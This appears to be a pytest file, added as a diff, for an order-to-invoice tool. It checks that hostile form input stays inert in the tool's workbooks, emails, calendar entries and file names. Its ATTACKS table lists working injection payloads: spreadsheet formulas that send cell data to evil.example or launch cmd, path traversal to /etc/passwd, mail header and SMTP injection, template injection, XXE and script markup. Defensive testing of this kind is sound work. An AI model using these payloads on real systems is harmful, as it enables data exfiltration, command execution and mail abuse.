@@ -1,0 +1,162 @@
+"""Texts that mean harm: what a stranger may write into the form, and that nothing comes of it."""
+
+from __future__ import annotations
+
+import csv
+import email
+import email.policy
+import itertools
+import zipfile
+from collections.abc import Iterator
+from email.message import EmailMessage
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from tests.acceptance.desk import onsite
+from tests.rules.build import CLEAN
+from tests.sync.post_office import NOW, PostOffice, furnished, upto
+
+ATTACKS = {
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "formula by plus": "+cmd|' /C calc'!A0",
+    "formula by minus": "-2+3+cmd|' /C calc'!A0",
+    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula, full width": "＝1+1",
+    "formula after a tab": "\t=1+1",
+    "formula after a line break": "x\n=1+1",
+    "formula with an apostrophe": "'=1+1",
+    "data from the web": '=IMPORTXML("http://evil.example","//a")',
+    "path upwards": "../../../../etc/cron.d/evil",
+    "path of Windows": "..\\..\\C:\\Windows\\win.ini",
+    "path from the root": "/etc/passwd",
+    "device": "CON.txt",
+    "null": "evil\x00.exe",
+    "mail header": "Ken\r\nBcc: everyone@evil.example",
+    "mail header, encoded": "=?utf-8?q?Ken=0D=0ABcc:_everyone=40evil.example?=",
+    "mail body": "x\r\n.\r\nMAIL FROM:<a@evil.example>",
+    "template": "{{ 7*191 }}{% for x in range(9) %}{{ x }}{% endfor %}",
+    "template that calls": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "format": "%s%n {0.__class__} $(id) `id` ${HOME}",
+    "markup": '<script>alert(1)</script><img src="http://evil.example/x">',
+    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
+    "right to left": "\u202egnp.exe",
+    "sheet reference": "'System'!A1",
+    "picture escape": "_x003D_1+1",
+}
+FIELDS = (
+    "Client reference", "Billing reference", "Ordered by", "Work description", "Site address", "Site contact", "Floor",
+    "Entry instructions", "Items to bring", "Notes", "PM contact",
+)  # fmt: skip
+HEADERS = {"to", "from", "subject", "date", "message-id", "mime-version", "content-type", "x-unsent"}
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory: pytest.TempPathFactory) -> PostOffice:
+    """A register after a run that took in two orders for every attack: one that messages are due for, one invoiced."""
+    post = furnished(tmp_path_factory.mktemp("attacked") / "office")
+    waived = {"Waived flags": "engineer-double-booked: a test\nduplicate-order: a test"}
+    bases = [{**CLEAN, **upto(status), **waived} for status in ("Approved", "Completed")]
+    titles = ["Timestamp", *dict.fromkeys([*bases[0], *bases[1], *FIELDS])]
+    path = post.folder.parent / "form.csv"
+    with path.open("w", encoding="utf-8", newline="") as file:
+        answers = csv.DictWriter(file, titles)
+        answers.writeheader()
+        for number, (text, base) in enumerate(itertools.product(ATTACKS.values(), bases)):
+            stamp = f"2026/11/19 9:{number // 60:02d}:{number % 60:02d}"
+            answers.writerow({"Timestamp": stamp, **base, **dict.fromkeys(FIELDS, text)})
+    done = onsite("sync", post.path, "--now", NOW, "--form-csv", path, "--config", post.config)
+    assert done.code == 0, done.err or done.out
+    return post
+
+
+def mails(post: PostOffice) -> Iterator[EmailMessage]:
+    for path in (post.folder / "outbox").rglob("*.eml"):
+        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
+        assert isinstance(message, EmailMessage)
+        yield message
+
+
+def workbooks(post: PostOffice) -> list[Path]:
+    return [post.path, *(post.folder / "invoices").iterdir()]
+
+
+def test_each_order_came_in_and_was_invoiced(attacked: PostOffice) -> None:
+    rows = attacked.rows("Orders")
+    assert [row["Status"] for row in rows].count("Invoiced") == len(ATTACKS) == len(attacked.files("invoices"))
+    assert len(rows) == 2 * len(ATTACKS) <= len(list(mails(attacked)))
+
+
+def test_no_text_is_a_formula(attacked: PostOffice) -> None:
+    """Neither for a spreadsheet program that opens the file, nor after a click into the cell and Enter."""
+    for path in workbooks(attacked):
+        for sheet in openpyxl.load_workbook(path):
+            for line in sheet.iter_rows():
+                for cell in line:
+                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
+                    if sheet.title != "Engineers" and str(cell.value)[:1] in ("=", "+", "@"):  # typed by the test
+                        assert cell.quotePrefix or cell.number_format == "@", (sheet.title, cell.coordinate)
+
+
+def test_texts_stay_as_they_were_written(attacked: PostOffice) -> None:
+    found = [row["Notes"] for row in attacked.rows("Orders")]
+    for text in ATTACKS.values():
+        kept = text.replace("\r\n", "\n").replace("\x00", "")
+        assert kept in found or kept.replace("_x", "_x005F_x") in found, text
+
+
+def test_every_file_is_where_it_belongs(attacked: PostOffice) -> None:
+    root = attacked.folder.parent
+    below = {path.relative_to(attacked.folder).parts[0] for path in attacked.folder.rglob("*")}
+    assert below <= {
+        "orders.xlsx", "onsite.toml", "invoices", "outbox", "work-orders", ".onsite-backups", ".onsite-outbox",
+        ".onsite-templates", ".orders.xlsx.onsite-lock",
+    }  # fmt: skip
+    assert {path.name for path in root.iterdir()} == {"office", "form.csv"}
+    for path in attacked.folder.rglob("*"):
+        assert not set('\\/:*?"<>|\x00\r\n\u202e') & set(path.name), path
+        assert path.name.split(".")[0].upper() not in ("CON", "PRN", "AUX", "NUL") and len(path.name.encode()) <= 255
+
+
+def test_no_mail_has_a_header_of_a_strangers(attacked: PostOffice) -> None:
+    for mail in mails(attacked):
+        assert {name.lower() for name in mail} <= HEADERS, dict(mail)
+        assert len(mail["To"].addresses) == 1 and "evil" not in mail["To"].addresses[0].addr_spec
+        assert "\n" not in mail["Subject"] and "\r" not in mail["Subject"]
+
+
+def test_templates_are_literal(attacked: PostOffice) -> None:
+    parts = (part for mail in mails(attacked) for part in mail.walk())
+    whole = "\n".join(str(part.get_content()) for part in parts if part.get_content_maintype() == "text")
+    assert "7*191" in whole and str(7 * 191) not in whole and "subclasses" in whole
+    assert "<class" not in whole and "root:" not in whole
+
+
+def test_markup_is_text(attacked: PostOffice) -> None:
+    for mail in mails(attacked):
+        for part in mail.walk():
+            if part.get_content_type() == "text/html":
+                assert "<script" not in part.get_content() and "<img" not in part.get_content()
+
+
+def test_a_calendar_has_one_entry(attacked: PostOffice) -> None:
+    entries = [part for mail in mails(attacked) for part in mail.walk() if part.get_content_type() == "text/calendar"]
+    assert entries
+    for entry in entries:
+        lines = str(entry.get_content()).splitlines()
+        assert [line.split(":")[0] for line in lines].count("BEGIN") == lines.count("BEGIN:VEVENT") + lines.count(
+            "BEGIN:VCALENDAR"
+        ) + lines.count("BEGIN:VTIMEZONE") + lines.count("BEGIN:STANDARD") + lines.count("BEGIN:DAYLIGHT")
+        assert lines.count("BEGIN:VEVENT") == 1
+
+
+def test_no_part_of_a_workbook_leads_outside(attacked: PostOffice) -> None:
+    for path in workbooks(attacked):
+        with zipfile.ZipFile(path) as book:
+            for name in book.namelist():
+                text = book.read(name)
+                assert b"<!DOCTYPE" not in text and b"<!ENTITY" not in text
+                if name.endswith(".rels"):
+                    assert b"evil.example" not in text and b"etc/" not in text
